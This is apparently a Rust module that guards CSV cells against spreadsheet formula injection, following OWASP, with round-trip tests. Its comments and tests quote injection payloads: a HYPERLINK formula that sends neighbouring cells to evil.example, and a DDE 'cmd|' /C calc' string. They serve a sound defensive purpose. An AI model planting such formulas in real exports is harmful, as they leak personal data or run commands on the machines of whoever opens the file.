//! Every CSV the hub writes goes through [`Writer`], and every CSV it reads through [`unguard`], so
//! that an exported cell never runs as a spreadsheet formula and a round trip stays exact.
//!
//! Issue 19: a joint partner set `gbvIndicators` to `=HYPERLINK("http://evil.example/?x="&B2…)`,
//! and the owner's export wrote it verbatim beside the person's legal name and phone. Following
//! OWASP's CSV-injection guidance, a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return is written with a leading `'`, which spreadsheets read as "this is text". A cell that
//! starts with `'` followed by such a cell is guarded as well, so that reading undoes exactly what
//! writing did: a value is never changed by a round trip, and a hand-made file's `'abc` stays
//! `'abc`.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

const GUARD: char = '\'';

/// Whether a cell needs the guard: it starts with a trigger, or with the guard before a cell that
/// needs it.
fn needs_guard(cell: &str) -> bool {
    let trimmed = cell.trim_start_matches(GUARD);
    trimmed.starts_with(TRIGGERS)
}

/// A cell as written: `'` before a cell a spreadsheet would run as a formula.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if needs_guard(cell) {
        Cow::Owned(format!("{GUARD}{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as read: the guard [`guard`] added, taken off.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

/// A CSV writer that guards every cell.
pub struct Writer {
    inner: csv::Writer<Vec<u8>>,
}

impl Writer {
    /// A writer into memory with this delimiter.
    pub fn new(delimiter: u8) -> Writer {
        Writer {
            inner: csv::WriterBuilder::new()
                .delimiter(delimiter)
                .from_writer(Vec::new()),
        }
    }

    /// Writes one record, every cell guarded.
    pub fn write_record<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let guarded: Vec<String> = cells
            .into_iter()
            .map(|c| guard(c.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&guarded)
    }

    /// The bytes written.
    pub fn into_inner(self) -> Result<Vec<u8>, csv::Error> {
        self.inner
            .into_inner()
            .map_err(|e| csv::Error::from(e.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_round_trips_exact() {
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?x=\"&B2&\"-\"&P2,\"Apri scheda\")",
            "-2+3+cmd|' /C calc'!A0",
            "+39 035 000000",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=1",
            "''-x",
        ];
        for p in payloads {
            let written = guard(p);
            assert!(written.starts_with('\''), "{p}");
            assert_eq!(unguard(&written), p);
        }
        for plain in ["abc", "'abc", "", "'", "2023-01-10", "a=b"] {
            assert_eq!(guard(plain), plain);
            assert_eq!(unguard(plain), plain);
        }
    }

    #[test]
    fn the_writer_guards_every_cell() {
        let mut w = Writer::new(b',');
        w.write_record(["=1+1", "ok"]).expect("writes");
        let text = String::from_utf8(w.into_inner().expect("bytes")).expect("utf-8");
        assert_eq!(text, "'=1+1,ok\n");
    }
}
